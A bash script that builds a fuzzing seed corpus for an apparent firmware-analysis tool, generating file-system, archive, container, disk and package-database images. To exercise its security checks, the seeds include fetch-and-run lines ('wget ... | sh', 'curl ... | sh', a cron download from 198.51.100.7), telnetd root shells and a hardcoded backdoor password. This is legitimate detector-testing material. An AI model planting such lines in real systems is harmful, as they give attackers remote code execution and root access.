#!/usr/bin/env bash
# Builds a small seed corpus per fuzz target (corpus/<target>/seed-*) with Debian's tools, so
# the fuzzers start from valid images instead of having to find each format's magic and
# structure by chance. Seeds are kept small (a few KiB) so mutations stay fast.
# Needs: squashfs-tools mtd-utils e2fsprogs u-boot-tools device-tree-compiler cpio zip
#        zstd xz-utils bzip2 lz4 util-linux (mkfs.cramfs) genromfs p7zip-full python3 rpm db5.3-util
#        umoci skopeo fdisk gdisk qemu-utils openssl openssh-client; optionally Debian's cross
#        compilers (gcc-{mipsel,mips,powerpc,aarch64}-linux-gnu, gcc-arm-linux-gnueabihf).
# Usage: fuzz/seeds.sh            (writes fuzz/corpus/*/seed-*; existing seeds are replaced)
set -euo pipefail
cd "$(dirname "$0")"
C=$PWD/corpus
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

# A tiny root file system: a directory, text and binary files, a symlink and a hard link.
root=$tmp/root
mkdir -p "$root/etc/init.d" "$root/bin" "$root/www"
printf 'root:x:0:0:root:/root:/bin/sh\nadmin:x:1000:1000::/home/admin:/bin/sh\n' > "$root/etc/passwd"
printf 'root:$1$abc$def:0:0:99999:7:::\n' > "$root/etc/shadow"
printf '#!/bin/sh\ntelnetd -l /bin/sh -p 2323 &\n' > "$root/etc/init.d/rcS"
head -c 3000 /dev/urandom > "$root/bin/blob"
printf '<html>hello</html>\n' > "$root/www/index.html"
ln -s ../etc/passwd "$root/www/link"
ln "$root/etc/passwd" "$root/etc/passwd.hard"
chmod 0755 "$root/etc/init.d/rcS"
text=$root/etc/passwd

seed() { mkdir -p "$C/$1"; cp "$2" "$C/$1/seed-$3"; }

for comp in gzip xz lzo lz4 zstd lzma; do
  mksquashfs "$root" "$tmp/sq-$comp" -comp "$comp" -noappend -quiet -no-progress -b 4096 2>/dev/null \
    && seed squashfs "$tmp/sq-$comp" "$comp"
done
mksquashfs "$root" "$tmp/sq-frag" -noappend -quiet -no-progress -always-use-fragments -b 4096
seed squashfs "$tmp/sq-frag" frag

# SquashFS 3.1 (no Debian tool writes it any more): a little-endian zlib image with a file, a
# symlink and a directory, metadata blocks stored, packed as the format's bitfields.
python3 - "$tmp/sq3" <<'PY'
import struct, sys, zlib
def le(v, nbytes): return v.to_bytes(nbytes, "little")
mtime = 1600000000
text = b"root:x:0:0:root:/root:/bin/sh\n"
data = zlib.compress(text, 9)
sb_len = 119
img = bytearray(sb_len) + data
def base(kind, mode, inum):
    return kind | mode << 4 | 0 << 16 | 255 << 24 | mtime << 32 | inum << 64
passwd = le(base(2, 0o644, 1) | sb_len << 96 | 0xFFFFFFFF << 160 | 0 << 192 | len(text) << 224, 32) + le(len(data), 4)
sh = le(base(3, 0o777, 2) | 1 << 96 | 7 << 128, 18) + b"busybox"
etc_listing = le(0 | 0 << 8 | 1 << 40, 9) + le(0 | 2 << 13 | 5 << 16, 5) + b"passwd"
r_sh, r_etc = len(passwd), len(passwd) + len(sh)
root_listing = (le(1 | 0 << 8 | 2 << 40, 9) + le(r_etc | 1 << 13 | 2 << 16, 5) + b"etc"
                + le(r_sh | 3 << 13 | 1 << 16, 5) + b"sh")
etc = le(base(1, 0o755, 3) | 2 << 96 | (len(etc_listing) + 3) << 128 | 0 << 147 | 0 << 160, 28)
r_root = r_etc + len(etc)
root = le(base(1, 0o755, 4) | 3 << 96 | (len(root_listing) + 3) << 128 | len(etc_listing) << 147 | 0 << 160, 28)
inodes = passwd + sh + etc + root
dirs = etc_listing + root_listing
inode_table = len(img); img += le(len(inodes) | 0x8000, 2) + inodes
directory_table = len(img); img += le(len(dirs) | 0x8000, 2) + dirs
uid_start = len(img); img += le(0, 4)
guid_start = bytes_used = len(img)
fields = [(0, 32, int.from_bytes(b"hsqs", "little")), (32, 32, 4), (224, 16, 3), (240, 16, 1),
          (272, 16, 16), (288, 8, 0x10), (296, 8, 1), (304, 8, 0), (312, 32, mtime),
          (344, 64, r_root), (408, 32, 65536), (440, 32, 0), (504, 64, bytes_used),
          (568, 64, uid_start), (632, 64, guid_start), (696, 64, inode_table),
          (760, 64, directory_table), (824, 64, uid_start), (888, 64, 2**64 - 1)]
sb = 0
for pos, n, v in fields:
    sb |= (v & ((1 << n) - 1)) << pos
img[:sb_len] = le(sb, sb_len)
img += bytes(-len(img) % 4096)
open(sys.argv[1], "wb").write(img)
PY
seed squashfs3 "$tmp/sq3" le-zlib

for fmt in newc crc odc; do
  (cd "$root" && find . | cpio -o -H "$fmt" --quiet > "$tmp/cpio-$fmt")
  seed cpio "$tmp/cpio-$fmt" "$fmt"
done

for fmt in ustar gnu pax; do
  tar --format="$fmt" -cf "$tmp/tar-$fmt" -C "$root" .
  seed tar "$tmp/tar-$fmt" "$fmt"
done

# Container images: an OCI layout made by umoci (the tiny root, a layer deleting and replacing
# files and adding a symlink, a layer making www opaque), written by skopeo as an OCI archive
# with gzip and with zstd layers and as a docker-archive (uncompressed layers, symlinks).
(
  cd "$tmp"
  umoci init --layout oci && umoci new --image oci:s
  umoci unpack --image oci:s b0 >/dev/null && cp -a "$root"/. b0/rootfs/ && umoci repack --image oci:s b0
  umoci unpack --image oci:s b1 >/dev/null
  rm b1/rootfs/etc/shadow && printf 'root::0:0::/:/bin/sh\n' > b1/rootfs/etc/passwd
  ln -s ../etc/init.d/rcS b1/rootfs/www/rcs && umoci repack --image oci:s b1
  mkdir opq && printf 'opaque\n' > opq/index.html && umoci insert --image oci:s --opaque opq /www
  skopeo --insecure-policy copy --quiet oci:oci:s oci-archive:img-oci-gzip.tar
  skopeo --insecure-policy copy --quiet --dest-compress-format zstd oci:oci:s oci-archive:img-oci-zstd.tar
  skopeo --insecure-policy copy --quiet oci:oci:s docker-archive:img-docker.tar:cnf/amf:1
)
seed container "$tmp/img-oci-gzip.tar" oci-gzip
seed container "$tmp/img-oci-zstd.tar" oci-zstd
seed container "$tmp/img-docker.tar" docker

(cd "$root" && zip -qry "$tmp/deflate.zip" . && zip -qry0 "$tmp/store.zip" .)
seed zip "$tmp/deflate.zip" deflate
seed zip "$tmp/store.zip" store
(cd "$root" && 7z a -t7z -snl -bd "$tmp/lzma2.7z" . >/dev/null \
  && 7z a -t7z -snl -bd -m0=BCJ -m1=LZMA -mhc=off "$tmp/bcj.7z" . >/dev/null \
  && 7z a -t7z -snl -bd -m0=Copy -ms=off "$tmp/copy.7z" . >/dev/null)
seed sevenz "$tmp/lzma2.7z" lzma2
seed sevenz "$tmp/bcj.7z" bcj
seed sevenz "$tmp/copy.7z" copy
# Arcadyan's obfuscated lzma: a 4-byte prefix and an lzma-alone stream, scrambled.
(cd "$root" && tar -cf - . | lzma -c > "$tmp/root.lzma")
python3 - "$tmp/root.lzma" "$tmp/arcadyan.bin" <<'PY'
import sys
d = bytearray(b"\x30\x05\x11\x20" + open(sys.argv[1], "rb").read())
b = bytes(((x << 4) | (x >> 4)) & 0xff for x in d[4:36])
b = bytes(b[i ^ 1] for i in range(32))
d[4:36], d[0x68:0x88] = d[0x68:0x88], b
open(sys.argv[2], "wb").write(d)
PY
seed arcadyan "$tmp/arcadyan.bin" lzma
# Without its central directory: recovered from the local headers.
cd_at=$(python3 -c 'import struct,sys; d=open(sys.argv[1],"rb").read(); print(struct.unpack_from("<I",d,len(d)-6)[0])' "$tmp/deflate.zip")
head -c "$((cd_at + 20))" "$tmp/deflate.zip" > "$tmp/cut.zip" && seed zip "$tmp/cut.zip" cut
(cd "$root" && zip -qry - . > "$tmp/streamed.zip")
seed zip "$tmp/streamed.zip" streamed

tar -cf "$tmp/small.tar" -C "$root" etc
gzip -9c "$tmp/small.tar" > "$tmp/s.gz"; seed gzip "$tmp/s.gz" tar
gzip -9c "$text" > "$tmp/t.gz"; seed gzip "$tmp/t.gz" text
xz -c "$tmp/small.tar" > "$tmp/s.xz"; seed xz "$tmp/s.xz" tar
xz -c --check=sha256 "$text" > "$tmp/t.xz"; seed xz "$tmp/t.xz" sha256
xz -c --format=lzma "$tmp/small.tar" > "$tmp/s.lzma"; seed lzma "$tmp/s.lzma" tar
zstd -q -c "$tmp/small.tar" > "$tmp/s.zst"; seed zstd "$tmp/s.zst" tar
zstd -q -c --ultra -22 "$text" > "$tmp/t.zst"; seed zstd "$tmp/t.zst" text
bzip2 -c "$tmp/small.tar" > "$tmp/s.bz2"; seed bzip2 "$tmp/s.bz2" tar
lz4 -q -c "$tmp/small.tar" > "$tmp/s.lz4"; seed lz4 "$tmp/s.lz4" tar
lz4 -q -l -c "$text" > "$tmp/t.lz4"; seed lz4 "$tmp/t.lz4" legacy

mke2fs -q -t ext2 -b 1024 -d "$root" "$tmp/ext2" 256 && seed ext "$tmp/ext2" ext2
mke2fs -q -t ext4 -b 1024 -O ^has_journal -d "$root" "$tmp/ext4" 512 && seed ext "$tmp/ext4" ext4

for comp in zlib lzo rtime; do
  mkfs.jffs2 -q -r "$root" -o "$tmp/jffs2-$comp" -e 4KiB -X "$comp" -x lzma 2>/dev/null \
    && seed jffs2 "$tmp/jffs2-$comp" "$comp"
done
mkfs.jffs2 -q -b -r "$root" -o "$tmp/jffs2-be" -e 4KiB && seed jffs2 "$tmp/jffs2-be" be

mkfs.cramfs "$root" "$tmp/cramfs" >/dev/null && seed cramfs "$tmp/cramfs" le

genromfs -d "$root" -f "$tmp/romfs" -V seed && seed romfs "$tmp/romfs" plain

# YAFFS2 (no Debian tool writes it): objects laid out as mkyaffs2image does, a header chunk
# then data chunks, 2048-byte pages with tags at the start of a 64-byte spare area (Android's
# header tags), and the same objects with in-band tags (the kernel's header tags).
python3 - "$tmp" <<'PY'
import struct, sys
def image(inband, fmt="<"):
    page, out, seq = 2048, bytearray(), 0x1000
    def chunk(data, obj, cid, n):
        tags = struct.pack(fmt + "4I", seq, obj, cid, n)
        if inband:
            out.extend(data.ljust(page - 16, b"\xff") + tags)
        else:
            out.extend(data.ljust(page, b"\xff") + tags.ljust(64, b"\xff"))
    def obj(oid, parent, kind, name, mode, size=0, alias=b"", equiv=0, data=b""):
        h = bytearray(b"\xff" * 512)
        struct.pack_into(fmt + "II", h, 0, kind, parent)
        h[10:266] = name.ljust(256, b"\0")
        struct.pack_into(fmt + "6I", h, 268, mode, 0, 0, 0, 1600000000, 0)
        struct.pack_into(fmt + "Ii", h, 292, size, equiv)
        h[300:460] = alias.ljust(160, b"\0")
        if inband:  # the kernel's tags: object type and parent in the header chunk's tags
            chunk(bytes(h), oid | kind << 28, 0x80000000 | parent, size if kind == 1 else equiv)
        else:  # Android's mkyaffs2image: chunk 0, byte count 0xffff
            chunk(bytes(h), oid, 0, 0xFFFF)
        per = page - 16 if inband else page
        for i in range(0, len(data), per):
            chunk(data[i:i + per], oid, i // per + 1, len(data[i:i + per]))
    obj(257, 1, 3, b"etc", 0o40755)
    text = b"root:x:0:0:root:/root:/bin/sh\n"
    obj(258, 257, 1, b"passwd", 0o100644, len(text), data=text)
    obj(259, 1, 2, b"sh", 0o120777, alias=b"busybox")
    obj(260, 257, 4, b"passwd.hard", 0, equiv=258)
    blob = bytes(range(256)) * 12
    obj(261, 1, 1, b"blob", 0o100755, len(blob), data=blob)
    return bytes(out)
open(sys.argv[1] + "/yaffs2-oob", "wb").write(image(False))
open(sys.argv[1] + "/yaffs2-inband", "wb").write(image(True))
PY
seed yaffs2 "$tmp/yaffs2-oob" oob
seed yaffs2 "$tmp/yaffs2-inband" inband

# UBIFS and UBI on small NAND geometry (512-byte pages, 16 KiB erase blocks).
mkfs.ubifs -r "$root" -m 512 -e 15360 -c 64 -x lzo -o "$tmp/ubifs"
seed ubifs "$tmp/ubifs" lzo
mkfs.ubifs -r "$root" -m 512 -e 15360 -c 64 -x zlib -o "$tmp/ubifs-zlib"
seed ubifs "$tmp/ubifs-zlib" zlib
printf '[rootfs]\nmode=ubi\nimage=%s\nvol_id=0\nvol_type=dynamic\nvol_name=rootfs\n' "$tmp/ubifs" > "$tmp/ubi.cfg"
ubinize -o "$tmp/ubi" -m 512 -p 16KiB -s 512 "$tmp/ubi.cfg" 2>/dev/null
seed ubi "$tmp/ubi" rootfs

gzip -9c "$text" > "$tmp/kernel.gz"
mkimage -A arm -O linux -T kernel -C gzip -a 0x8000 -e 0x8000 -n seed -d "$tmp/kernel.gz" "$tmp/uimage" >/dev/null
seed uimage "$tmp/uimage" kernel
mkimage -A mips -O linux -T multi -C none -a 0 -e 0 -n multi -d "$text:$tmp/s.gz" "$tmp/umulti" >/dev/null
seed uimage "$tmp/umulti" multi

cat > "$tmp/image.its" <<EOF
/dts-v1/;
/ {
  description = "seed";
  #address-cells = <1>;
  images {
    kernel { data = /incbin/("$tmp/kernel.gz"); type = "kernel"; arch = "arm"; os = "linux";
             compression = "gzip"; load = <0x8000>; entry = <0x8000>;
             hash-1 { algo = "sha256"; }; hash-2 { algo = "crc32"; }; };
    rootfs { data = /incbin/("$tmp/sq-gzip"); type = "ramdisk"; arch = "arm"; os = "linux";
             compression = "none"; hash-1 { algo = "sha1"; }; };
  };
  configurations { default = "conf"; conf { kernel = "kernel"; ramdisk = "rootfs"; }; };
};
EOF
mkimage -f "$tmp/image.its" "$tmp/fit" >/dev/null && seed fit "$tmp/fit" embedded
mkimage -E -f "$tmp/image.its" "$tmp/fit-ext" >/dev/null && seed fit "$tmp/fit-ext" external

# TRX v1 (no Debian tool writes it): header, lzma loader, squashfs rootfs; the CRC covers
# everything after the CRC field and is stored without the final inversion.
python3 - "$tmp/s.lzma" "$tmp/sq-xz" "$tmp/trx" <<'EOF'
import struct, sys, zlib
parts = [open(p, "rb").read() for p in sys.argv[1:3]]
body, offs = b"", []
for p in parts:
    offs.append(28 + len(body))
    body += p + b"\0" * (-len(p) % 4)
offs += [0] * (3 - len(offs))
tail = struct.pack("<HH3I", 0, 1, *offs) + body
crc = zlib.crc32(tail) ^ 0xFFFFFFFF
open(sys.argv[3], "wb").write(b"HDR0" + struct.pack("<II", 28 + len(body), crc) + tail)
EOF
seed trx "$tmp/trx" v1

# Disks: small MBR (primaries, an extended partition, logicals) and GPT tables holding the
# cpio and squashfs seeds, then the MBR disk as QCOW2 and VMDK in their variants. Sector-sized
# partitions and 512-byte clusters keep the seeds small.
truncate -s 64K "$tmp/mbr"
printf 'label: dos\nstart=2, size=16, type=83, bootable\nstart=18, size=8, type=83\nstart=28, size=96, type=5\nstart=30, size=16, type=83\nstart=50, size=16, type=83\n' \
  | sfdisk -q --no-reread --no-tell-kernel "$tmp/mbr" 2>/dev/null
dd if="$tmp/cpio-newc" of="$tmp/mbr" bs=512 seek=2 conv=notrunc status=none
dd if="$tmp/sq-gzip" of="$tmp/mbr" bs=512 seek=30 conv=notrunc status=none
seed partitions "$tmp/mbr" mbr
truncate -s 64K "$tmp/gpt"
sgdisk -a 1 -n 1:34:+12K -t 1:8300 -c 1:rootfs -n 2:0:+4K -t 2:EF00 -c 2:efi "$tmp/gpt" >/dev/null
dd if="$tmp/cpio-newc" of="$tmp/gpt" bs=512 seek=34 conv=notrunc status=none
seed partitions "$tmp/gpt" gpt
q() { qemu-img convert -f raw -O qcow2 "$@"; }
q -o cluster_size=512 "$tmp/mbr" "$tmp/q-plain" && seed qcow2 "$tmp/q-plain" plain
q -o cluster_size=512,compat=0.10 "$tmp/mbr" "$tmp/q-v2" && seed qcow2 "$tmp/q-v2" v2
q -c -o cluster_size=512 "$tmp/mbr" "$tmp/q-deflate" && seed qcow2 "$tmp/q-deflate" deflate
q -c -o cluster_size=512,compression_type=zstd "$tmp/mbr" "$tmp/q-zstd" && seed qcow2 "$tmp/q-zstd" zstd
q -o cluster_size=16K,extended_l2=on "$tmp/mbr" "$tmp/q-extl2" && seed qcow2 "$tmp/q-extl2" extl2
qemu-img create -q -f qcow2 -o cluster_size=512 -b q-plain -F qcow2 "$tmp/q-backing" && seed qcow2 "$tmp/q-backing" backing
for sub in streamOptimized monolithicSparse; do
  qemu-img convert -f raw -O vmdk -o subformat=$sub "$tmp/mbr" "$tmp/v-$sub" && seed vmdk "$tmp/v-$sub" "$sub"
done
qemu-img convert -f raw -O vmdk -o subformat=monolithicFlat "$tmp/mbr" "$tmp/v-flat.vmdk"
seed vmdk "$tmp/v-flat.vmdk" descriptor
# VMware's stream layout (qemu-img puts the tables in front): tables after the grains, the
# grain directory found through the footer.
python3 - "$tmp/v-streamOptimized" "$tmp/v-footer" <<'PY'
import struct, sys
q = open(sys.argv[1], "rb").read()
cap, grain = struct.unpack_from("<QQ", q, 12)
gtes, = struct.unpack_from("<I", q, 44)
gd_at, over = struct.unpack_from("<QQ", q, 56)
pos = over * 512
while pos + 16 <= len(q):
    n, size, kind = struct.unpack_from("<QII", q, pos)
    if size:
        pos += (12 + size + 511) // 512 * 512
    elif kind == 0:
        break
    else:
        pos += 512 + n * 512
pad = lambda b: b + b"\0" * (-len(b) % 512)
mark = lambda n, k: struct.pack("<QII", n, 0, k).ljust(512, b"\0")
out = bytearray(q[:pos])
gd = b""
for t in range(-(-cap // (grain * gtes))):
    gt, = struct.unpack_from("<I", q, gd_at * 512 + 4 * t)
    out += mark(-(-gtes * 4 // 512), 1)
    gd += struct.pack("<I", len(out) // 512)
    out += pad(q[gt * 512:gt * 512 + gtes * 4])
out += mark(-(-len(gd) // 512), 2)
new_gd = len(out) // 512
out += pad(gd)
hdr = bytearray(q[:512])
struct.pack_into("<Q", hdr, 56, new_gd)
out += mark(1, 3) + hdr + mark(0, 0)
struct.pack_into("<Q", hdr, 56, 2**64 - 1)
out[:512] = hdr
open(sys.argv[2], "wb").write(out)
PY
seed vmdk "$tmp/v-footer" footer

# carve: images after headers and padding, inside bundles, and in erased flash.
{ head -c 4096 /dev/zero | tr '\0' '\377'; cat "$tmp/uimage"; head -c 1000 /dev/zero; cat "$tmp/sq-xz"; } > "$tmp/flash"
seed carve "$tmp/flash" flash
(cd "$tmp" && mkdir -p b && cp sq-gzip cpio-newc b/ && gzip -c cpio-newc > b/initrd.cpio.gz && tar -czf bundle.tgz -C b .)
seed carve "$tmp/bundle.tgz" bundle
seed carve "$tmp/trx" trx

# rpm: two small packages built and installed by rpm (SQLite database), their header blobs,
# the blobs loaded into Berkeley DB hash files by db5.3_load (little-endian 512-byte pages:
# overflow chains; big-endian 4 KiB pages), and into an NDB file laid out as rpmpkg.c does.
rpmtop=$tmp/rpmbuild
mkdir -p "$rpmtop/SPECS" "$tmp/rpmroot"
for n in alpha beta; do
  cat > "$rpmtop/SPECS/$n.spec" <<EOF
%global debug_package %{nil}
%global __os_install_post %{nil}
%global _build_id_links none
Name: fuzz-$n
Version: 1.0
Release: 1
Epoch: 1
Summary: seed
License: MIT
BuildArch: noarch
%description
seed
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc
echo x > %{buildroot}/usr/bin/fuzz-$n
echo y > %{buildroot}/etc/fuzz-$n.conf
%files
/usr/bin/fuzz-$n
%config /etc/fuzz-$n.conf
EOF
  rpmbuild --define "_topdir $rpmtop" --quiet -bb "$rpmtop/SPECS/$n.spec"
done
rpm --root "$tmp/rpmroot" --dbpath /var/lib/rpm --define '_db_backend sqlite' -i --nodeps \
  --noscripts --ignorearch "$rpmtop"/RPMS/noarch/*.rpm 2>/dev/null
python3 - "$tmp/rpmroot/var/lib/rpm/rpmdb.sqlite" "$tmp" <<'EOF'
import sqlite3, struct, sys, zlib
db, out = sys.argv[1], sys.argv[2]
rows = sqlite3.connect(f"file:{db}?mode=ro", uri=True).execute(
    "SELECT hnum, blob FROM Packages ORDER BY hnum").fetchall()
for h, b in rows:
    open(f"{out}/header-{h}", "wb").write(b)
for order, page in (("1234", 512), ("4321", 4096)):
    end = "<" if order == "1234" else ">"
    key = lambda k: struct.pack(end + "I", k).hex()
    with open(f"{out}/dump-{order}", "w") as f:
        f.write(f"VERSION=3\nformat=bytevalue\ntype=hash\ndb_pagesize={page}\n"
                f"db_lorder={order}\nHEADER=END\n {key(0)}\n {key(len(rows) + 1)}\n")
        for h, b in rows:
            f.write(f" {key(h)}\n {b.hex()}\n")
        f.write("DATA=END\n")
ndb = bytearray(4096)
ndb[0:4], ndb[12:16] = b"RpmP", struct.pack("<I", 1)
for s in range(32, 4096, 16):
    ndb[s:s + 4] = b"Slot"
for i, (h, b) in enumerate(rows):
    start, blocks = len(ndb), (16 + len(b) + 12 + 15) // 16
    area = b"BlbS" + struct.pack("<III", h, 0, len(b)) + b
    area += b"\0" * (blocks * 16 - 12 - len(area))
    area += struct.pack("<II", zlib.adler32(area), len(b)) + b"BlbE"
    ndb += area
    slot = 32 + 16 * i
    ndb[slot + 4:slot + 16] = struct.pack("<III", h, start // 16, blocks)
open(f"{out}/Packages.db", "wb").write(ndb)
EOF
for h in "$tmp"/header-*; do seed rpm_header "$h" "$(basename "$h")"; done
for order in 1234 4321; do
  db5.3_load -f "$tmp/dump-$order" "$tmp/Packages-$order" && seed rpm_bdb "$tmp/Packages-$order" "$order"
done
seed rpm_ndb "$tmp/Packages.db" two

# Shell scripts as firmware starts them: this machine's init scripts and cron jobs, and the
# forms the services check follows (functions, variables, sourcing, procd, pipes into sh).
n=0
for f in /etc/init.d/* /etc/cron.daily/* /etc/cron.hourly/*; do
  [ -f "$f" ] && [ "$n" -lt 40 ] && seed shell "$f" "host-$((n++))"
done
printf '#!/bin/sh /etc/rc.common\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command "$PROG" -F\n\tprocd_append_param command -l /bin/sh\n\tprocd_close_instance\n}\n' > "$tmp/procd"
seed shell "$tmp/procd" procd
printf '#!/bin/sh\n. /lib/functions.sh\nD=/usr/sbin/utelnetd\nstart() { ( $D -p ${PORT:-23} -l /bin/sh & ); }\ncase "$1" in start) start ;; esac\ncd /tmp && wget -qO- http://h/x | sh\nsh -c "$(curl -s http://h/y)"\ncat <<EOF > /tmp/a\nx\nEOF\n' > "$tmp/sysv"
seed shell "$tmp/sysv" sysv

# Multi-file targets (checks, package_dbs): pieces joined by FILE_BREAK (\xffNV\xff), each
# piece's first byte choosing its path in src/lib.rs (CHECK_PATHS, PACKAGE_PATHS).
piece() { printf "\\x$(printf %02x "$1")"; cat "$2"; }
brk() { printf '\xffNV\xff'; }
printf '::sysinit:/etc/init.d/rcS\nttyS0::respawn:/bin/login\n' > "$tmp/inittab"
printf '# comment\n1 * * * * wget -q http://198.51.100.7/u -O /tmp/u && sh /tmp/u\n' > "$tmp/cron"
printf '[Service]\nExecStart=/usr/sbin/httpd -p 8080\n[Install]\nWantedBy=multi-user.target\n' > "$tmp/unit"
printf 'PasswordAuthentication no\nPermitRootLogin yes\n' > "$tmp/sshd_config"
printf 'telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n' > "$tmp/inetd"
printf '{"admin_password":"cGFzc3dvcmQxMjM=","api_key":"%s"}\n' "$(head -c 24 /dev/urandom | base64)" > "$tmp/config.json"
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:1024 -out "$tmp/rsa.pem" 2>/dev/null
openssl pkey -in "$tmp/rsa.pem" -outform DER -out "$tmp/rsa.der"
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$tmp/ec.pem" 2>/dev/null
openssl req -x509 -key "$tmp/ec.pem" -subj /CN=fuzz -days 1 -sha1 -out "$tmp/cert.pem" 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -f "$tmp/ssh_ed25519"
ssh-keygen -q -t rsa -b 1024 -N '' -f "$tmp/ssh_rsa"
{ piece 0 "$root/etc/passwd"; brk; piece 1 "$root/etc/shadow"; brk; piece 3 "$tmp/inittab"; brk; piece 2 "$root/etc/init.d/rcS"; } > "$tmp/c-accounts"
seed checks "$tmp/c-accounts" accounts-init
{ piece 9 "$tmp/cron"; brk; piece 10 "$tmp/unit"; brk; piece 14 "$tmp/inetd"; brk; piece 11 "$tmp/sshd_config"; } > "$tmp/c-services"
seed checks "$tmp/c-services" services
{ piece 4 "$tmp/rsa.pem"; brk; piece 21 "$tmp/rsa.der"; brk; piece 7 "$tmp/cert.pem"; brk; piece 12 "$tmp/ssh_ed25519.pub"; } > "$tmp/c-keys"
seed checks "$tmp/c-keys" keys
{ piece 4 "$tmp/ssh_rsa"; brk; piece 8 "$tmp/config.json"; brk; piece 20 "$tmp/ec.pem"; } > "$tmp/c-secrets"
seed checks "$tmp/c-secrets" secrets
piece 6 /bin/true > "$tmp/c-elf"
seed checks "$tmp/c-elf" elf
# A program comparing a password at a call site, for each cross compiler installed (the
# authcmp decoders: MIPS both byte orders, ARM, AArch64, PowerPC).
printf '#include <stdio.h>\n#include <string.h>\nint main(int c, char **v) { puts("Password: "); return c > 1 && strcmp(v[1], "Xr7!backd00r") == 0; }\n' > "$tmp/pw.c"
for cc in mipsel-linux-gnu-gcc mips-linux-gnu-gcc arm-linux-gnueabihf-gcc aarch64-linux-gnu-gcc powerpc-linux-gnu-gcc; do
  command -v "$cc" >/dev/null || continue
  "$cc" -Os -s -o "$tmp/pw-$cc" "$tmp/pw.c" && piece 6 "$tmp/pw-$cc" > "$tmp/c-pw-$cc" && seed checks "$tmp/c-pw-$cc" "authcmp-${cc%%-*}"
done
head -c 6000 /bin/true > "$tmp/elf-head"
{ piece 16 "$tmp/elf-head"; brk; piece 13 "$root/etc/init.d/rcS"; } > "$tmp/c-elf-cut"
seed checks "$tmp/c-elf-cut" elf-cut
awk 'BEGIN{RS="";ORS="\n\n"} NR<=3' /var/lib/dpkg/status > "$tmp/dpkg"
printf 'Package: busybox\nVersion: 1.36.1-r2\nArchitecture: mipsel_24kc\nStatus: install user installed\n\n' > "$tmp/opkg"
printf 'C:Q1abc=\nP:musl\nV:1.2.4-r2\nA:x86_64\no:musl\nF:lib\nR:ld-musl-x86_64.so.1\n\n' > "$tmp/apk"
printf 'NAME="OpenWrt"\nVERSION="23.05.2"\nID="openwrt"\nVERSION_ID="23.05.2"\n' > "$tmp/os-release"
{ piece 0 "$tmp/dpkg"; brk; piece 3 /etc/os-release; brk; piece 12 /etc/debian_version; } > "$tmp/p-dpkg"
seed package_dbs "$tmp/p-dpkg" dpkg
{ piece 1 "$tmp/opkg"; brk; piece 8 "$tmp/os-release"; } > "$tmp/p-opkg"
seed package_dbs "$tmp/p-opkg" opkg
{ piece 2 "$tmp/apk"; brk; piece 3 "$tmp/os-release"; } > "$tmp/p-apk"
seed package_dbs "$tmp/p-apk" apk
printf 'xx BusyBox v1.36.1 (2023-11-02 12:00:00 UTC) multi-call binary.\0' > "$tmp/bb"
printf 'Linux version 6.1.0-13-amd64 (debian-kernel@lists.debian.org) #1 SMP\0vermagic=6.1.0-13-amd64 SMP mod_unload\0' > "$tmp/kernel"
{ piece 5 "$tmp/bb"; brk; piece 7 "$tmp/kernel"; brk; piece 11 "$tmp/kernel"; } > "$tmp/p-binaries"
seed package_dbs "$tmp/p-binaries" binaries

# Documents: declared SBOMs (CycloneDX, SPDX; also read as VEX), advisory files, inventories.
seed sbom_docs ../crates/sbom/tests/golden/openwrt.cdx.json cdx
seed sbom_docs ../crates/sbom/tests/golden/openwrt.spdx.json spdx
printf '{"@context":"https://openvex.dev/ns/v0.2.0","statements":[{"vulnerability":{"name":"CVE-2023-0001"},"products":[{"@id":"pkg:deb/debian/openssl@3.0.11"}],"status":"not_affected","justification":"vulnerable_code_not_in_execute_path"}]}\n' > "$tmp/openvex"
seed sbom_docs "$tmp/openvex" openvex
for f in ../advisories/osv/*.json ../advisories/nvd/*.json; do
  seed advisories "$f" "$(basename "$(dirname "$f")")-$(basename "$f")"
done
python3 -c '
import json, sys
kev = json.load(open("../advisories/kev/known_exploited_vulnerabilities.json"))
kev["vulnerabilities"] = kev["vulnerabilities"][:5]
json.dump(kev, open(sys.argv[1], "w"))
' "$tmp/kev"
seed advisories "$tmp/kev" kev
{ printf '\0'; head -c 4000 ../examples/inventory/operators.csv; } > "$tmp/inv-csv"
seed inventory "$tmp/inv-csv" csv
python3 -c '
import csv, json, sys
rows = list(csv.DictReader(open("../examples/inventory/operators.csv")))[:20]
open(sys.argv[1], "wb").write(b"\x01" + json.dumps(rows).encode())
' "$tmp/inv-json"
seed inventory "$tmp/inv-json" json

du -sh "$C"/* | sed 's/^/seeds: /'
